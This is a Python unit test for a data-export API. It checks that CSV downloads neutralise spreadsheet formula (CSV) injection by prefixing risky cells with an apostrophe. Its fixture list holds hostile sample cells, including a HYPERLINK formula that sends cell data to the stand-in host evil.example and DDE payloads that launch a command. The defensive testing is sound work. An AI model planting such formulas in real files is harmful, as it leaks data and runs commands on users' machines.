"""Open-data CSV files never hand a spreadsheet a formula (OWASP, CSV injection): a text cell
starting with = + - @, a tab or a CR gets a leading apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json

import pytest

from qcdc_gateway.api.exports import DECISIONS, _download

pytestmark = pytest.mark.unit

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    "+84 911 000 001",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_a_text_cell_that_would_be_a_formula_is_shown_as_text() -> None:
    rows = [
        {column.name: None for column in DECISIONS.columns}
        | {"decision_id": f"d-{i}", "residential_group": value, "yes": -1 if i == 0 else i}
        for i, value in enumerate(HOSTILE)
    ]
    response = _download(DECISIONS, rows, "csv")
    read = list(csv.DictReader(io.StringIO(bytes(response.body).decode("utf-8-sig"))))
    assert [row["residential_group"] for row in read] == ["'" + value for value in HOSTILE]
    assert [row["decision_id"] for row in read] == [f"d-{i}" for i in range(len(HOSTILE))]
    assert read[0]["yes"] == "-1"  # a negative number is a number, not a formula

    as_json = json.loads(bytes(_download(DECISIONS, rows, "json").body))
    assert [row["residential_group"] for row in as_json["items"]] == HOSTILE
